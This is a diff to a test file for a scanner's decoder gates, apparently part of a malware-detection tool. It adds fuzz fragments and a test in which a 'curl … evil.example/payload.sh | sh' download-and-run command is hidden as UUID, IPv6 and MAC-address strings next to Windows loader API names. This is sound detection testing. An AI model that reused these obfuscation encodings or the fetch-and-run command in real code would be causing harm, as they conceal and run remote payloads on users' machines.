@@ -14,6 +14,15 @@ const hasIn = (text: string) => {
   return (w: (typeof GATE_WORDS)[number]) => found[GATE_WORDS.indexOf(w)]!.length > 0;
 };
 
+/** `text`'s bytes (padded to a multiple of 16) as a list of quoted UUID strings. */
+function uuidList(text: string): string {
+  const hex = Buffer.from(text.padEnd(Math.ceil(text.length / 16) * 16)).toString("hex");
+  const ids = hex
+    .match(/.{32}/g)!
+    .map((h) => `"${h.slice(0, 8)}-${h.slice(8, 12)}-${h.slice(12, 16)}-${h.slice(16, 20)}-${h.slice(20)}"`);
+  return ` ${ids.join(", ")}`;
+}
+
 // Fragments of every finder's syntax, mixed with the cases and spaces the gates must see through.
 const fragment = fc.constantFrom(
   "chr(99)+chr(117)+chr(114)+chr(108)+",
@@ -58,6 +67,18 @@ const fragment = fc.constantFrom(
   "P=6375726c202d732068747470733a2f2f6576696c2e6578616d706c65",
   "%63%75%72%6c%20%68%74%74%70",
   "&#99;&#117;&#114;&#108;&#32;&#104;",
+  // Round 21: address lists wait for a loader's word (UUID, IPv6, MAC; capitals folded).
+  uuidList("curl -s https://evil.example/payload.sh | sh -s x"),
+  ' "6375:726c:202d:7320:6874:7470:733a:2f2f", "6576:696c:2e65:7861:6d70:6c65:2f78:207c", "2073:6820:2020:2020:2020:2020:2020:2020"',
+  ' "63-75-72-6c-20-2d", "73-20-68-74-74-70", "73-3a-2f-2f-65-76"',
+  "UuidFromStringA",
+  "IPV6",
+  "RtlIpv6StringToAddressA",
+  "Inet_Pton",
+  "MacAddr",
+  "ETHERNET",
+  "mac_to",
+  "FromString",
   " ",
   "\n",
   "é",
@@ -181,6 +202,14 @@ describe("decoder gates", () => {
       }),
       { numRuns: 400 },
     );
+  });
+
+  it("a list of UUIDs is decoded where the scanner finds a loader's word, and read no further where it finds none", () => {
+    const payload = "curl -s https://evil.example/payload.sh | sh -s x";
+    const t = `uuids = [${uuidList(payload)} ]\nfor u in uuids: UuidFromStringA(u, p)\n`;
+    expect(decodePieces(t, hasIn(t)).map((p) => p.text.trim())).toContain(payload);
+    const none = () => false;
+    expect(decodePieces(t, none).map((p) => p.text.trim())).not.toContain(payload);
   });
 
   it("a payload behind a gate word written in capitals is still decoded and flagged", () => {
